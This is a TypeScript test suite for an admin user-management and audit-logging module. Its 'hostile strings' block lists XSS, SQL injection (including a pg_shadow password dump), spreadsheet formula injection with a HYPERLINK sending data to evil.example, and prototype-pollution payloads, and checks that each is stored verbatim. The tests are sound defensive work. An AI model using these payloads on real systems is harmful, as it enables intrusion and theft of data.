import { randomUUID } from 'node:crypto';
import { and, asc, count, eq, gt, isNull } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Tx } from '@/db/client';
import { createTestDatabase, type TestDatabase } from '@/db/testing';
import { auditEvents, auditStreams, sessions, users } from '@/db/schema';
import type { Role } from './authz';
import { writeAuditEvent } from './audit/writer';
import { ExpectedError } from './errors';
import { hashPassword, verifyPassword } from './password';
import { attemptSignIn, getSessionUser } from './sign-in';
import {
  changeRole,
  createUser,
  resetPassword,
  setActive,
  setExpiry,
  type ActingUser,
  type UserRow,
} from './users';

const SYSTEM: ActingUser = {
  actor: { id: null, name: 'test setup', email: null, type: 'system' },
  context: { ip: null, userAgent: null, requestId: null },
  sessionId: null,
};
const PASSWORD = 'correct horse battery staple';

/** Helpers bound to one test database. */
function helpers(t: TestDatabase) {
  async function dashboardId(): Promise<string> {
    const [row] = await t.db
      .select({ id: auditStreams.id })
      .from(auditStreams)
      .where(eq(auditStreams.name, 'dashboard'));
    return row!.id;
  }
  async function headSeq(): Promise<number> {
    const [row] = await t.db
      .select({ seq: auditStreams.headSeq })
      .from(auditStreams)
      .where(eq(auditStreams.name, 'dashboard'));
    return row!.seq;
  }
  async function eventsAfter(seq: number) {
    return t.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.streamId, await dashboardId()), gt(auditEvents.seq, seq)))
      .orderBy(asc(auditEvents.seq));
  }
  /** The whole audit row as PostgreSQL text, to search for things that must never be in it. */
  async function eventRowsAsText(seq: number): Promise<string[]> {
    const rows =
      await t.owner`select e::text as row from audit_events e where seq > ${seq} order by seq`;
    return rows.map((r) => r.row as string);
  }
  async function userCount(): Promise<number> {
    const [row] = await t.db.select({ n: count() }).from(users);
    return row!.n;
  }
  async function readUser(id: string) {
    const [row] = await t.db.select().from(users).where(eq(users.id, id));
    return row!;
  }
  let n = 0;
  async function makeUser(
    role: Role,
    overrides: { name?: string; expiresAt?: Date | null; email?: string } = {},
  ): Promise<UserRow> {
    n += 1;
    return t.db.transaction((tx) =>
      createUser(tx, SYSTEM, {
        email: overrides.email ?? `${role}-${n}-${randomUUID().slice(0, 8)}@example.com`,
        name: overrides.name ?? `${role} ${n}`,
        role,
        password: PASSWORD,
        expiresAt: overrides.expiresAt ?? null,
      }),
    );
  }
  function actingAs(user: UserRow, sessionId = `sess-${user.id}`): ActingUser {
    return {
      actor: { id: user.id, name: user.name, email: user.email, type: 'user' },
      context: {
        ip: '198.51.100.1',
        userAgent: 'Mozilla/5.0 (test)',
        requestId: `req-${randomUUID()}`,
      },
      sessionId,
    };
  }
  /** Runs an action that must be refused: an ExpectedError, and neither an event nor a change. */
  async function expectRefused(action: () => Promise<unknown>, message: RegExp, field?: string) {
    const seq = await headSeq();
    const snapshot = await t.owner`select u::text as row from users u order by id`;
    const error = await action().then(
      () => null,
      (e: unknown) => e,
    );
    expect(error, 'expected the action to be refused').toBeInstanceOf(ExpectedError);
    expect((error as ExpectedError).message).toMatch(message);
    expect((error as ExpectedError).field).toBe(field);
    expect(await headSeq()).toBe(seq);
    expect(await t.owner`select u::text as row from users u order by id`).toEqual(snapshot);
  }
  return {
    dashboardId,
    headSeq,
    eventsAfter,
    eventRowsAsText,
    userCount,
    readUser,
    makeUser,
    actingAs,
    expectRefused,
  };
}

let t: TestDatabase;
let h: ReturnType<typeof helpers>;
let admin: UserRow;
let by: ActingUser;

beforeAll(async () => {
  t = await createTestDatabase();
  h = helpers(t);
  admin = await h.makeUser('admin', { name: 'Ada Admin' });
  by = h.actingAs(admin);
});
afterAll(() => t.close());

function expectActorAndTarget(event: typeof auditEvents.$inferSelect, target: UserRow) {
  expect(event.outcome).toBe('success');
  expect({
    id: event.actorId,
    name: event.actorName,
    email: event.actorEmail,
    type: event.actorType,
  }).toEqual({
    id: admin.id,
    name: 'Ada Admin',
    email: admin.email,
    type: 'user',
  });
  expect({
    ip: event.actorIp,
    userAgent: event.actorUserAgent,
    requestId: event.requestId,
    sessionId: event.sessionId,
  }).toEqual({
    ip: by.context.ip,
    userAgent: by.context.userAgent,
    requestId: by.context.requestId,
    sessionId: by.sessionId,
  });
  expect({ type: event.targetType, id: event.targetId, label: event.targetLabel }).toEqual({
    type: 'user',
    id: target.id,
    label: target.email,
  });
}

describe('each admin action writes exactly one audit event', () => {
  it('createUser: user.create with every field and no password', async () => {
    const seq = await h.headSeq();
    const email = `new-${randomUUID().slice(0, 8)}@example.com`;
    const password = `unique-password-${randomUUID()}`;
    const user = await t.db.transaction((tx) =>
      createUser(tx, by, {
        email,
        name: 'Bob Reviewer',
        role: 'reviewer',
        password,
        expiresAt: null,
      }),
    );
    expect(user).toMatchObject({
      email,
      name: 'Bob Reviewer',
      role: 'reviewer',
      active: true,
      expiresAt: null,
    });

    const events = await h.eventsAfter(seq);
    expect(events).toHaveLength(1);
    expect(events[0]!.action).toBe('user.create');
    expectActorAndTarget(events[0]!, user);
    expect(events[0]!.changes).toEqual([
      { field: 'email', old: null, new: email },
      { field: 'name', old: null, new: 'Bob Reviewer' },
      { field: 'role', old: null, new: 'reviewer' },
      { field: 'active', old: null, new: true },
      { field: 'expires_at', old: null, new: null },
    ]);

    const stored = await h.readUser(user.id);
    expect(stored.passwordHash).toMatch(/^\$argon2id\$/);
    expect(await verifyPassword(stored.passwordHash, password)).toBe(true);
    const [rowText] = await h.eventRowsAsText(seq);
    expect(rowText).not.toContain(password);
    expect(rowText).not.toContain(stored.passwordHash);
    expect(rowText).not.toContain('argon2');
  });

  it('createUser with an expiry records it as an ISO string', async () => {
    const seq = await h.headSeq();
    const expiresAt = new Date('2030-06-30T12:00:00.000Z');
    const user = await t.db.transaction((tx) =>
      createUser(tx, by, {
        email: `aud-${randomUUID().slice(0, 8)}@example.com`,
        name: 'Ann Auditor',
        role: 'auditor',
        password: PASSWORD,
        expiresAt,
      }),
    );
    const [event] = await h.eventsAfter(seq);
    expect(event!.changes.at(-1)).toEqual({
      field: 'expires_at',
      old: null,
      new: '2030-06-30T12:00:00.000Z',
    });
    expect((await h.readUser(user.id)).expiresAt?.toISOString()).toBe('2030-06-30T12:00:00.000Z');
  });

  it('changeRole: user.role_change reviewer -> auditor', async () => {
    const user = await h.makeUser('reviewer');
    const seq = await h.headSeq();
    const after = await t.db.transaction((tx) =>
      changeRole(tx, by, { userId: user.id, role: 'auditor' }),
    );
    expect(after.role).toBe('auditor');
    const events = await h.eventsAfter(seq);
    expect(events).toHaveLength(1);
    expect(events[0]!.action).toBe('user.role_change');
    expectActorAndTarget(events[0]!, user);
    expect(events[0]!.changes).toEqual([{ field: 'role', old: 'reviewer', new: 'auditor' }]);
    expect((await h.readUser(user.id)).role).toBe('auditor');
  });

  it('changeRole to the same role is refused', async () => {
    const user = await h.makeUser('reviewer');
    await h.expectRefused(
      () => t.db.transaction((tx) => changeRole(tx, by, { userId: user.id, role: 'reviewer' })),
      /already has this role/,
      'role',
    );
  });

  it('changing an auditor to another role clears the expiry and records it', async () => {
    const user = await h.makeUser('auditor', { expiresAt: new Date('2031-01-01T00:00:00.000Z') });
    const seq = await h.headSeq();
    const after = await t.db.transaction((tx) =>
      changeRole(tx, by, { userId: user.id, role: 'reviewer' }),
    );
    expect(after.expiresAt).toBeNull();
    expect((await h.readUser(user.id)).expiresAt).toBeNull();
    const events = await h.eventsAfter(seq);
    expect(events).toHaveLength(1);
    expect(events[0]!.changes).toEqual([
      { field: 'role', old: 'auditor', new: 'reviewer' },
      { field: 'expires_at', old: '2031-01-01T00:00:00.000Z', new: null },
    ]);
  });

  it('setActive false then true: user.deactivate and user.reactivate with active old/new', async () => {
    const user = await h.makeUser('reviewer');
    let seq = await h.headSeq();
    const off = await t.db.transaction((tx) =>
      setActive(tx, by, { userId: user.id, active: false }),
    );
    expect(off.active).toBe(false);
    let events = await h.eventsAfter(seq);
    expect(events).toHaveLength(1);
    expect(events[0]!.action).toBe('user.deactivate');
    expectActorAndTarget(events[0]!, user);
    expect(events[0]!.changes).toEqual([{ field: 'active', old: true, new: false }]);

    seq = await h.headSeq();
    const on = await t.db.transaction((tx) => setActive(tx, by, { userId: user.id, active: true }));
    expect(on.active).toBe(true);
    events = await h.eventsAfter(seq);
    expect(events).toHaveLength(1);
    expect(events[0]!.action).toBe('user.reactivate');
    expectActorAndTarget(events[0]!, user);
    expect(events[0]!.changes).toEqual([{ field: 'active', old: false, new: true }]);
  });

  it('setActive to the current state is refused', async () => {
    const user = await h.makeUser('reviewer');
    await h.expectRefused(
      () => t.db.transaction((tx) => setActive(tx, by, { userId: user.id, active: true })),
      /already active/,
    );
  });

  it('deactivating a user revokes their live sessions', async () => {
    const user = await h.makeUser('reviewer');
    const signIn = await attemptSignIn(t.db, {
      email: user.email,
      password: PASSWORD,
      context: { ip: '192.0.2.50', userAgent: null, requestId: null },
    });
    expect(signIn.ok).toBe(true);
    const sessionId = (signIn as { sessionId: string }).sessionId;
    expect(await getSessionUser(t.db, sessionId)).not.toBeNull();
    await t.db.transaction((tx) => setActive(tx, by, { userId: user.id, active: false }));
    const live = await t.db
      .select({ id: sessions.id })
      .from(sessions)
      .where(and(eq(sessions.userId, user.id), isNull(sessions.revokedAt)));
    expect(live).toEqual([]);
    // Reactivation does not bring the old session back.
    await t.db.transaction((tx) => setActive(tx, by, { userId: user.id, active: true }));
    expect(await getSessionUser(t.db, sessionId)).toBeNull();
  });

  it('resetPassword: user.password_reset with no password or hash, and live sessions revoked', async () => {
    const user = await h.makeUser('reviewer');
    const context = { ip: '192.0.2.51', userAgent: null, requestId: null };
    const first = await attemptSignIn(t.db, { email: user.email, password: PASSWORD, context });
    const second = await attemptSignIn(t.db, { email: user.email, password: PASSWORD, context });
    expect(first.ok && second.ok).toBe(true);
    const oldHash = (await h.readUser(user.id)).passwordHash;

    const seq = await h.headSeq();
    const newPassword = `reset-password-${randomUUID()}`;
    await t.db.transaction((tx) =>
      resetPassword(tx, by, { userId: user.id, password: newPassword }),
    );

    const events = await h.eventsAfter(seq);
    expect(events).toHaveLength(1);
    expect(events[0]!.action).toBe('user.password_reset');
    expectActorAndTarget(events[0]!, user);
    expect(events[0]!.changes).toEqual([
      { field: 'password', old: '[redacted]', new: '[redacted]' },
    ]);
    const newHash = (await h.readUser(user.id)).passwordHash;
    expect(newHash).not.toBe(oldHash);
    const [rowText] = await h.eventRowsAsText(seq);
    for (const secret of [newPassword, PASSWORD, newHash, oldHash, 'argon2'])
      expect(rowText).not.toContain(secret);

    for (const result of [first, second]) {
      expect(await getSessionUser(t.db, (result as { sessionId: string }).sessionId)).toBeNull();
    }
    expect(await verifyPassword(newHash, newPassword)).toBe(true);
    expect(await verifyPassword(newHash, PASSWORD)).toBe(false);
  });

  it('setExpiry: user.expiry_change null -> ISO string, then back to null', async () => {
    const user = await h.makeUser('auditor');
    let seq = await h.headSeq();
    const expiresAt = new Date('2029-12-31T23:59:59.999Z');
    const after = await t.db.transaction((tx) => setExpiry(tx, by, { userId: user.id, expiresAt }));
    expect(after.expiresAt?.toISOString()).toBe('2029-12-31T23:59:59.999Z');
    let events = await h.eventsAfter(seq);
    expect(events).toHaveLength(1);
    expect(events[0]!.action).toBe('user.expiry_change');
    expectActorAndTarget(events[0]!, user);
    expect(events[0]!.changes).toEqual([
      { field: 'expires_at', old: null, new: '2029-12-31T23:59:59.999Z' },
    ]);

    seq = await h.headSeq();
    await t.db.transaction((tx) => setExpiry(tx, by, { userId: user.id, expiresAt: null }));
    events = await h.eventsAfter(seq);
    expect(events).toHaveLength(1);
    expect(events[0]!.changes).toEqual([
      { field: 'expires_at', old: '2029-12-31T23:59:59.999Z', new: null },
    ]);
    expect((await h.readUser(user.id)).expiresAt).toBeNull();
  });

  it('setExpiry to the same instant is refused', async () => {
    const user = await h.makeUser('auditor', { expiresAt: new Date('2032-01-01T00:00:00Z') });
    await h.expectRefused(
      () =>
        t.db.transaction((tx) =>
          setExpiry(tx, by, { userId: user.id, expiresAt: new Date('2032-01-01T00:00:00.000Z') }),
        ),
      /unchanged/,
      'expiresAt',
    );
  });

  it('an action on an unknown user is refused', async () => {
    await h.expectRefused(
      () => t.db.transaction((tx) => changeRole(tx, by, { userId: randomUUID(), role: 'auditor' })),
      /No such user/,
      'userId',
    );
    await h.expectRefused(
      () =>
        t.db.transaction((tx) =>
          resetPassword(tx, by, { userId: randomUUID(), password: PASSWORD }),
        ),
      /No such user/,
      'userId',
    );
  });
});

describe('refusals write nothing', () => {
  it('a duplicate e-mail is an ExpectedError on "email", and the existing user is untouched', async () => {
    const existing = await h.makeUser('reviewer', { name: 'Original Name' });
    const before = await h.userCount();
    await h.expectRefused(
      () =>
        t.db.transaction((tx) =>
          createUser(tx, by, {
            email: existing.email,
            name: 'Impostor',
            role: 'admin',
            password: 'another password!',
            expiresAt: null,
          }),
        ),
      /already exists/,
      'email',
    );
    expect(await h.userCount()).toBe(before);
    const stored = await h.readUser(existing.id);
    expect(stored).toMatchObject({ name: 'Original Name', role: 'reviewer' });
    expect(await verifyPassword(stored.passwordHash, PASSWORD)).toBe(true);
  });

  it('an expiry on a non-auditor is an ExpectedError, at creation and afterwards', async () => {
    for (const role of ['admin', 'compliance_officer', 'reviewer'] as const) {
      await h.expectRefused(
        () =>
          t.db.transaction((tx) =>
            createUser(tx, by, {
              email: `exp-${randomUUID().slice(0, 8)}@example.com`,
              name: 'X',
              role,
              password: PASSWORD,
              expiresAt: new Date('2030-01-01Z'),
            }),
          ),
        /Only auditor accounts/,
        'expiresAt',
      );
    }
    const reviewer = await h.makeUser('reviewer');
    await h.expectRefused(
      () =>
        t.db.transaction((tx) =>
          setExpiry(tx, by, { userId: reviewer.id, expiresAt: new Date('2030-01-01Z') }),
        ),
      /Only auditor accounts/,
      'expiresAt',
    );
  });
});

describe('the last active admin (a separate database, so no other admin exists)', () => {
  let d: TestDatabase;
  let dh: ReturnType<typeof helpers>;
  beforeAll(async () => {
    d = await createTestDatabase();
    dh = helpers(d);
  });
  afterAll(() => d.close());

  it('cannot be demoted or deactivated, even by themselves and with an inactive admin around', async () => {
    const only = await dh.makeUser('admin');
    const self = dh.actingAs(only);
    const inactive = await dh.makeUser('admin');
    await d.db.transaction((tx) => setActive(tx, self, { userId: inactive.id, active: false }));

    for (const role of ['compliance_officer', 'reviewer', 'auditor'] as const) {
      await dh.expectRefused(
        () => d.db.transaction((tx) => changeRole(tx, self, { userId: only.id, role })),
        /last active admin/,
      );
    }
    await dh.expectRefused(
      () => d.db.transaction((tx) => setActive(tx, self, { userId: only.id, active: false })),
      /last active admin/,
    );
    expect(await dh.readUser(only.id)).toMatchObject({ role: 'admin', active: true });

    // An inactive admin may be demoted freely: it is not the one keeping the lights on.
    await d.db.transaction((tx) => changeRole(tx, self, { userId: inactive.id, role: 'reviewer' }));
  });

  it('can be demoted once another admin is active', async () => {
    const a = await dh.makeUser('admin');
    const b = await dh.makeUser('admin');
    const others = await d.db
      .select({ id: users.id })
      .from(users)
      .where(and(eq(users.role, 'admin'), eq(users.active, true)));
    for (const other of others) {
      if (other.id !== a.id && other.id !== b.id)
        await d.db.transaction((tx) =>
          changeRole(tx, dh.actingAs(a), { userId: other.id, role: 'reviewer' }),
        );
    }
    await d.db.transaction((tx) => setActive(tx, dh.actingAs(a), { userId: b.id, active: false }));
    await dh.expectRefused(
      () =>
        d.db.transaction((tx) =>
          changeRole(tx, dh.actingAs(a), { userId: a.id, role: 'reviewer' }),
        ),
      /last active admin/,
    );
    await d.db.transaction((tx) => setActive(tx, dh.actingAs(a), { userId: b.id, active: true }));
    await d.db.transaction((tx) =>
      changeRole(tx, dh.actingAs(b), { userId: a.id, role: 'reviewer' }),
    );
    expect((await dh.readUser(a.id)).role).toBe('reviewer');
  });

  /** Leaves exactly two active admins and returns them. */
  async function twoAdmins(): Promise<[UserRow, UserRow]> {
    const a = await dh.makeUser('admin');
    const b = await dh.makeUser('admin');
    const others = await d.db
      .select({ id: users.id })
      .from(users)
      .where(and(eq(users.role, 'admin'), eq(users.active, true)));
    for (const other of others) {
      if (other.id !== a.id && other.id !== b.id)
        await d.db.transaction((tx) =>
          setActive(tx, dh.actingAs(a), { userId: other.id, active: false }),
        );
    }
    return [a, b];
  }

  /** One side of a race: whose row it changes, and the admin action itself. */
  type Step = { target: UserRow; act: (tx: Tx) => Promise<unknown> };
  const RACES: Array<[string, (a: UserRow, b: UserRow) => [Step, Step]]> = [
    [
      'two demotions',
      (a, b) => [
        {
          target: a,
          act: (tx) => changeRole(tx, dh.actingAs(a), { userId: a.id, role: 'reviewer' }),
        },
        {
          target: b,
          act: (tx) => changeRole(tx, dh.actingAs(b), { userId: b.id, role: 'auditor' }),
        },
      ],
    ],
    [
      'two deactivations',
      (a, b) => [
        { target: a, act: (tx) => setActive(tx, dh.actingAs(b), { userId: a.id, active: false }) },
        { target: b, act: (tx) => setActive(tx, dh.actingAs(a), { userId: b.id, active: false }) },
      ],
    ],
    [
      'a demotion and a deactivation',
      (a, b) => [
        {
          target: a,
          act: (tx) => changeRole(tx, dh.actingAs(a), { userId: a.id, role: 'compliance_officer' }),
        },
        { target: b, act: (tx) => setActive(tx, dh.actingAs(a), { userId: b.id, active: false }) },
      ],
    ],
  ];

  async function expectOneWinner(
    a: UserRow,
    b: UserRow,
    seq: number,
    results: PromiseSettledResult<unknown>[],
  ) {
    expect(results.filter((r) => r.status === 'fulfilled')).toHaveLength(1);
    const active = await d.db
      .select({ id: users.id })
      .from(users)
      .where(and(eq(users.role, 'admin'), eq(users.active, true)));
    expect(active).toHaveLength(1);
    expect([a.id, b.id]).toContain(active[0]!.id);
    expect(await dh.eventsAfter(seq)).toHaveLength(1);
  }

  it.each(RACES)(
    '%s of the only two admins at once (Promise.all): exactly one succeeds, one admin stays active',
    async (_name, make) => {
      for (let round = 0; round < 3; round++) {
        const [a, b] = await twoAdmins();
        const seq = await dh.headSeq();
        const results = await Promise.allSettled(
          make(a, b).map((step) => d.db.transaction((tx) => step.act(tx))),
        );
        await expectOneWinner(a, b, seq, results);
      }
    },
  );

  /** Waits (by polling the database, no timers) until `n` app-role backends are blocked on a lock. */
  async function untilBlocked(n: number): Promise<void> {
    for (let i = 0; i < 5000; i++) {
      const [row] = await d.owner`
        select count(*)::int as n from pg_stat_activity
         where datname = current_database() and usename = 'whochanged_app' and wait_event_type = 'Lock'`;
      if (row!.n >= n) return;
    }
    throw new Error(`never saw ${n} blocked transactions`);
  }

  it.each(RACES)(
    '%s, released at the same instant: the loser gets the last-admin refusal, not a deadlock error',
    async (_name, make) => {
      const [a, b] = await twoAdmins();
      const seq = await dh.headSeq();
      // A neutral third party holds both admin rows, so both requests queue up and then start
      // together when it lets go: the timing two simultaneous requests can always hit.
      let release!: () => void;
      const released = new Promise<void>((resolve) => (release = resolve));
      let holding!: () => void;
      const held = new Promise<void>((resolve) => (holding = resolve));
      const blocker = d.owner.begin(async (sql) => {
        await sql`select id from users where id in (${a.id}, ${b.id}) for update`;
        holding();
        await released;
      });
      await held;
      const racing = Promise.allSettled(
        make(a, b).map((step) => d.db.transaction((tx) => step.act(tx))),
      );
      await untilBlocked(2);
      release();
      await blocker;
      const results = await racing;

      await expectOneWinner(a, b, seq, results);
      const rejected = results.find((r) => r.status === 'rejected') as PromiseRejectedResult;
      const cause = rejected.reason?.cause ?? rejected.reason;
      expect(
        rejected.reason,
        `the refused request got: ${String(cause)} (code ${cause?.code})`,
      ).toBeInstanceOf(ExpectedError);
      expect((rejected.reason as ExpectedError).message).toMatch(/last active admin/);
    },
  );
});

describe('hostile strings are data: stored and read back byte for byte (security.md 16)', () => {
  const HOSTILE = [
    '<script>window.__pwned=1</script>',
    '<img src=x onerror="window.__pwned=1">',
    '"><svg onload=alert(1)>',
    "' OR '1'='1",
    "'; DROP TABLE audit_events;--",
    "' UNION SELECT null,usename,passwd FROM pg_shadow--",
    '$$; DROP TABLE x; $$',
    '=1+1',
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    '+1+1',
    '-1+1',
    '@SUM(1,2)',
    '＝1+1',
    '\u202Eevil.exe',
    'аdmin',
    'ad\u200Bmin',
    'e\u0301',
    'é',
    'line1\r\nline2',
    'line1\nline2\rline3',
    'a\u2028b\u2029c',
    '\x1b[31mred\x1b[0m',
    'quotes " and \' and , commas',
    '👩‍💻🏳️‍🌈',
    '{"__proto__":{"isAdmin":true}}',
  ];

  it.each(HOSTILE)('name %j', async (name) => {
    const seq = await h.headSeq();
    const user = await t.db.transaction((tx) =>
      createUser(tx, by, {
        email: `hostile-${randomUUID().slice(0, 8)}@example.com`,
        name,
        role: 'reviewer',
        password: PASSWORD,
        expiresAt: null,
      }),
    );
    expect(user.name).toBe(name);
    expect((await h.readUser(user.id)).name).toBe(name);
    // Byte for byte, as PostgreSQL holds it (not as a driver decodes it).
    const [stored] =
      await t.owner`select encode(convert_to(name, 'UTF8'), 'hex') as hex from users where id = ${user.id}`;
    expect(stored!.hex).toBe(Buffer.from(name, 'utf8').toString('hex'));

    const events = await h.eventsAfter(seq);
    expect(events).toHaveLength(1);
    expect(events[0]!.changes.find((c) => c.field === 'name')).toEqual({
      field: 'name',
      old: null,
      new: name,
    });
    const [json] = await t.owner`
      select encode(convert_to(changes -> 1 ->> 'new', 'UTF8'), 'hex') as hex from audit_events where seq = ${events[0]!.seq}`;
    expect(json!.hex).toBe(Buffer.from(name, 'utf8').toString('hex'));
  });

  it('é and e + combining accent stay two different names', async () => {
    const rows = await t.db.select({ name: users.name }).from(users);
    const names = rows.map((r) => r.name);
    expect(names).toContain('é');
    expect(names).toContain('e\u0301');
  });

  it('a hostile acting admin name is kept in the actor snapshot as is', async () => {
    const weird = await h.makeUser('admin', { name: '\u202E<script>x</script>\r\n=1+1' });
    const seq = await h.headSeq();
    const target = await h.makeUser('reviewer');
    await t.db.transaction((tx) =>
      changeRole(tx, h.actingAs(weird), { userId: target.id, role: 'auditor' }),
    );
    const seq2 = await h.headSeq();
    const events = (await h.eventsAfter(seq)).filter(
      (e) => e.seq <= seq2 && e.action === 'user.role_change',
    );
    expect(events.map((e) => e.actorName)).toEqual(['\u202E<script>x</script>\r\n=1+1']);
  });
});

describe('a change and its audit event commit together or not at all (security.md 2)', () => {
  it('a transaction that creates a user and then fails leaves neither the user nor its event', async () => {
    const seq = await h.headSeq();
    const before = await h.userCount();
    const email = `rollback-${randomUUID().slice(0, 8)}@example.com`;
    await expect(
      t.db.transaction(async (tx) => {
        const user = await createUser(tx, by, {
          email,
          name: 'Never',
          role: 'reviewer',
          password: PASSWORD,
          expiresAt: null,
        });
        expect(user.email).toBe(email); // the insert and its event did happen inside the transaction
        throw new Error('something after the change failed');
      }),
    ).rejects.toThrow(/something after the change failed/);
    expect(await h.userCount()).toBe(before);
    expect(await t.db.select().from(users).where(eq(users.email, email))).toEqual([]);
    expect(await h.headSeq()).toBe(seq);
    expect(await h.eventsAfter(seq)).toEqual([]);
  });

  it('when the audit write fails, the user insert in the same transaction is rolled back', async () => {
    const seq = await h.headSeq();
    const before = await h.userCount();
    const email = `auditfail-${randomUUID().slice(0, 8)}@example.com`;
    await expect(
      t.db.transaction(async (tx) => {
        await tx.insert(users).values({
          email,
          name: 'Half written',
          role: 'reviewer',
          passwordHash: await hashPassword(PASSWORD),
        });
        await writeAuditEvent(tx, {
          action: 'user.create',
          actor: by.actor,
          context: by.context,
          target: { type: 'user', id: 'x', label: email },
          metadata: { note: 'lone surrogate \uD800 cannot be canonicalised' },
        });
      }),
    ).rejects.toThrow(/surrogate/i);
    expect(await h.userCount()).toBe(before);
    expect(await t.db.select().from(users).where(eq(users.email, email))).toEqual([]);
    expect(await h.headSeq()).toBe(seq);
  });

  it('createUser whose own audit write fails (unhashable actor snapshot) creates no user', async () => {
    const seq = await h.headSeq();
    const before = await h.userCount();
    const email = `actorfail-${randomUUID().slice(0, 8)}@example.com`;
    const broken: ActingUser = { ...by, actor: { ...by.actor, name: 'Ada \uDC00' } };
    await expect(
      t.db.transaction((tx) =>
        createUser(tx, broken, {
          email,
          name: 'Never',
          role: 'reviewer',
          password: PASSWORD,
          expiresAt: null,
        }),
      ),
    ).rejects.toThrow(/surrogate/i);
    expect(await h.userCount()).toBe(before);
    expect(await h.headSeq()).toBe(seq);
  });

  it('a failed role change leaves the role as it was', async () => {
    const user = await h.makeUser('reviewer');
    const seq = await h.headSeq();
    await expect(
      t.db.transaction(async (tx) => {
        await changeRole(tx, by, { userId: user.id, role: 'admin' });
        throw new Error('boom');
      }),
    ).rejects.toThrow('boom');
    expect((await h.readUser(user.id)).role).toBe('reviewer');
    expect(await h.headSeq()).toBe(seq);
  });
});
